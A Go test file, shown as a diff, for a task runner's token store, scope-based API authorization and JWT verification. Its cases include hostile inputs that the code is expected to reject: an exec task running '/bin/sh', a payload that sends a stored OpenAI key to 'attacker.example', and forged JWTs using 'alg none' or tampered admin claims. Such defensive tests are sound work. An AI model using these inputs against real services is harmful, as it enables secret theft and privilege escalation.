@@ -0,0 +1,224 @@
+package runner
+
+import (
+	"crypto"
+	"crypto/ecdsa"
+	"crypto/ed25519"
+	"crypto/elliptic"
+	"crypto/rand"
+	"crypto/sha256"
+	"encoding/base64"
+	"encoding/json"
+	"errors"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+)
+
+func TestTokenStore(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "tokens.json")
+	s, err := OpenTokenStore(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	now := time.Unix(1700000000, 0)
+	s.now = func() time.Time { return now }
+
+	tok, created, err := s.Create("ci", []string{ScopeSubmit}, nil, time.Hour)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, _, err := s.Create("ci", []string{"root"}, nil, 0); err == nil {
+		t.Error("created a token with an unknown scope")
+	}
+	if b, _ := os.ReadFile(path); strings.Contains(string(b), tok) {
+		t.Fatal("token stored in the clear")
+	}
+	if got, err := s.Verify(tok); err != nil || got.Name != "ci" {
+		t.Fatalf("Verify = %+v, %v", got, err)
+	}
+	if _, err := s.Verify(tok[:len(tok)-1] + "x"); !errors.Is(err, ErrTokenInvalid) {
+		t.Errorf("wrong secret: %v", err)
+	}
+
+	// The server's store sees tokens rotated by another process.
+	other, _ := OpenTokenStore(path)
+	other.now = s.now
+	now = now.Add(30 * time.Minute)
+	rotated, _, err := other.Rotate(created.ID, 0)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, err := s.Verify(tok); !errors.Is(err, ErrTokenInvalid) {
+		t.Errorf("old token after rotation: %v", err)
+	}
+	got, err := s.Verify(rotated)
+	if err != nil || !got.Expires.Equal(now.Add(time.Hour)) {
+		t.Fatalf("rotated token = %+v, %v", got, err)
+	}
+
+	now = now.Add(2 * time.Hour)
+	if _, err := s.Verify(rotated); !errors.Is(err, ErrTokenExpired) {
+		t.Errorf("expired token: %v", err)
+	}
+	if err := other.Revoke(created.ID); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := s.Verify(rotated); !errors.Is(err, ErrTokenRevoked) {
+		t.Errorf("revoked token: %v", err)
+	}
+	if list, _ := s.List(); len(list) != 1 || list[0].Status(now) != "revoked" {
+		t.Errorf("List = %+v", list)
+	}
+}
+
+func TestAuthScopes(t *testing.T) {
+	s, _ := OpenTokenStore(filepath.Join(t.TempDir(), "tokens.json"))
+	reader, _, _ := s.Create("dashboard", []string{ScopeRead}, nil, 0)
+	submitter, _, _ := s.Create("ci", []string{ScopeSubmit}, nil, 0)
+	admin, _, _ := s.Create("ops", []string{ScopeAdmin}, nil, 0)
+	revoked, rt, _ := s.Create("old", []string{ScopeAdmin}, nil, 0)
+	s.Revoke(rt.ID)
+
+	reg := NewTaskRegistry()
+	srv := httptest.NewServer((&Authenticator{tokens: s}).Wrap(newAPIHandler(newAPIRunner(reg, defaultEnv, 0, 0), NewArtifactStore(t.TempDir()))))
+	defer srv.Close()
+
+	do := func(method, path, token, body string) int {
+		t.Helper()
+		req, _ := http.NewRequest(method, srv.URL+path, strings.NewReader(body))
+		if token != "" {
+			req.Header.Set("Authorization", "Bearer "+token)
+		}
+		resp, err := http.DefaultClient.Do(req)
+		if err != nil {
+			t.Fatal(err)
+		}
+		resp.Body.Close()
+		return resp.StatusCode
+	}
+	for _, tc := range []struct {
+		method, path, token, body string
+		want                      int
+	}{
+		{"GET", "/tasks", "", "", http.StatusUnauthorized},
+		{"GET", "/tasks", "w4t_nope_nope", "", http.StatusUnauthorized},
+		{"GET", "/tasks", revoked, "", http.StatusUnauthorized},
+		{"GET", "/tasks", reader, "", http.StatusOK},
+		{"POST", "/tasks", reader, `{"type": "teleport"}`, http.StatusForbidden},
+		{"GET", "/webhooks/deliveries", submitter, "", http.StatusForbidden},
+		{"POST", "/tasks", submitter, `{"type": "blockchain", "payload": "0xabc:mint"}`, http.StatusForbidden},
+		{"POST", "/tasks", submitter, `{"type": "exec", "payload": "/bin/sh"}`, http.StatusForbidden},
+		{"POST", "/tasks", submitter, `{"type": "teleport"}`, http.StatusAccepted},
+		{"POST", "/tasks", admin, `{"type": "blockchain", "payload": "0xabc:mint"}`, http.StatusAccepted},
+		{"POST", "/tasks", submitter, `{"type": "teleport", "payload": "https://attacker.example/${secret:openai_key}"}`, http.StatusForbidden},
+		{"POST", "/tasks", admin, `{"type": "teleport", "payload": "https://api.example/${secret:openai_key}"}`, http.StatusAccepted},
+	} {
+		if got := do(tc.method, tc.path, tc.token, tc.body); got != tc.want {
+			t.Errorf("%s %s with %.12q: status %d, want %d", tc.method, tc.path, tc.token, got, tc.want)
+		}
+	}
+}
+
+func TestOpenAPIRefusesPrivilegedTypes(t *testing.T) {
+	srv := newControlServer(t, NewTaskRegistry())
+	for _, body := range []string{
+		`{"type": "exec", "payload": "/bin/sh"}`,
+		`{"type": "blockchain", "payload": "0xabc:mint"}`,
+	} {
+		if code := post(t, srv, "/tasks", body, nil); code != http.StatusForbidden {
+			t.Errorf("%s without auth: status %d", body, code)
+		}
+	}
+}
+
+// signJWT signs claims with key, an *ecdsa.PrivateKey or ed25519.PrivateKey.
+func signJWT(t *testing.T, alg, kid string, key crypto.Signer, claims map[string]interface{}) string {
+	t.Helper()
+	hdr, _ := json.Marshal(map[string]string{"alg": alg, "kid": kid, "typ": "JWT"})
+	body, _ := json.Marshal(claims)
+	signed := base64.RawURLEncoding.EncodeToString(hdr) + "." + base64.RawURLEncoding.EncodeToString(body)
+	var sig []byte
+	switch k := key.(type) {
+	case *ecdsa.PrivateKey:
+		sum := sha256.Sum256([]byte(signed))
+		r, s, err := ecdsa.Sign(rand.Reader, k, sum[:])
+		if err != nil {
+			t.Fatal(err)
+		}
+		sig = append(r.FillBytes(make([]byte, 32)), s.FillBytes(make([]byte, 32))...)
+	case ed25519.PrivateKey:
+		sig = ed25519.Sign(k, []byte(signed))
+	}
+	return signed + "." + base64.RawURLEncoding.EncodeToString(sig)
+}
+
+func TestJWTVerifier(t *testing.T) {
+	ecKey, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
+	edPub, edKey, _ := ed25519.GenerateKey(rand.Reader)
+	b64 := base64.RawURLEncoding.EncodeToString
+	jwks, _ := json.Marshal(map[string]interface{}{"keys": []map[string]string{
+		{"kid": "ec", "kty": "EC", "crv": "P-256", "use": "sig", "x": b64(ecKey.X.FillBytes(make([]byte, 32))), "y": b64(ecKey.Y.FillBytes(make([]byte, 32)))},
+		{"kid": "ed", "kty": "OKP", "crv": "Ed25519", "x": b64(edPub)},
+		{"kid": "enc", "kty": "EC", "crv": "P-256", "use": "enc"},
+	}})
+	path := filepath.Join(t.TempDir(), "jwks.json")
+	os.WriteFile(path, jwks, 0o644)
+
+	v, err := newJWTVerifier(OIDCConfig{Issuer: "https://idp.example", Audience: "web4", JWKSFile: path})
+	if err != nil {
+		t.Fatal(err)
+	}
+	now := time.Unix(1700000000, 0)
+	v.now = func() time.Time { return now }
+	claims := func(change func(map[string]interface{})) map[string]interface{} {
+		c := map[string]interface{}{"iss": "https://idp.example", "aud": []string{"web4", "other"}, "sub": "alice",
+			"exp": now.Add(time.Hour).Unix(), "scope": "openid submit"}
+		if change != nil {
+			change(c)
+		}
+		return c
+	}
+
+	p, err := v.verify(t.Context(), signJWT(t, "ES256", "ec", ecKey, claims(nil)))
+	if err != nil || p.Subject != "oidc:alice" || !p.Can(ScopeRead) || p.Can(ScopeAdmin) {
+		t.Fatalf("verify = %+v, %v", p, err)
+	}
+	if p, err := v.verify(t.Context(), signJWT(t, "EdDSA", "ed", edKey, claims(nil))); err != nil || !p.Can(ScopeSubmit) {
+		t.Fatalf("EdDSA verify = %+v, %v", p, err)
+	}
+
+	for name, tc := range map[string]struct {
+		token string
+		want  error
+	}{
+		"expired":       {signJWT(t, "ES256", "ec", ecKey, claims(func(c map[string]interface{}) { c["exp"] = now.Add(-time.Hour).Unix() })), ErrTokenExpired},
+		"audience":      {signJWT(t, "ES256", "ec", ecKey, claims(func(c map[string]interface{}) { c["aud"] = "other" })), ErrTokenInvalid},
+		"issuer":        {signJWT(t, "ES256", "ec", ecKey, claims(func(c map[string]interface{}) { c["iss"] = "https://evil.example" })), ErrTokenInvalid},
+		"no exp":        {signJWT(t, "ES256", "ec", ecKey, claims(func(c map[string]interface{}) { delete(c, "exp") })), ErrTokenInvalid},
+		"wrong key":     {signJWT(t, "EdDSA", "ec", edKey, claims(nil)), ErrTokenInvalid},
+		"unknown kid":   {signJWT(t, "ES256", "rotated", ecKey, claims(nil)), ErrTokenInvalid},
+		"alg none":      {strings.Join(strings.Split(signJWT(t, "none", "ec", ecKey, claims(nil)), ".")[:2], ".") + ".", ErrTokenInvalid},
+		"tampered body": {tamper(signJWT(t, "ES256", "ec", ecKey, claims(nil))), ErrTokenInvalid},
+	} {
+		if _, err := v.verify(t.Context(), tc.token); !errors.Is(err, tc.want) {
+			t.Errorf("%s: err = %v, want %v", name, err, tc.want)
+		}
+	}
+}
+
+// tamper swaps the claims of a JWT for ones granting admin.
+func tamper(token string) string {
+	parts := strings.Split(token, ".")
+	body, _ := base64.RawURLEncoding.DecodeString(parts[1])
+	var c map[string]interface{}
+	json.Unmarshal(body, &c)
+	c["scope"] = "admin"
+	body, _ = json.Marshal(c)
+	parts[1] = base64.RawURLEncoding.EncodeToString(body)
+	return strings.Join(parts, ".")
+}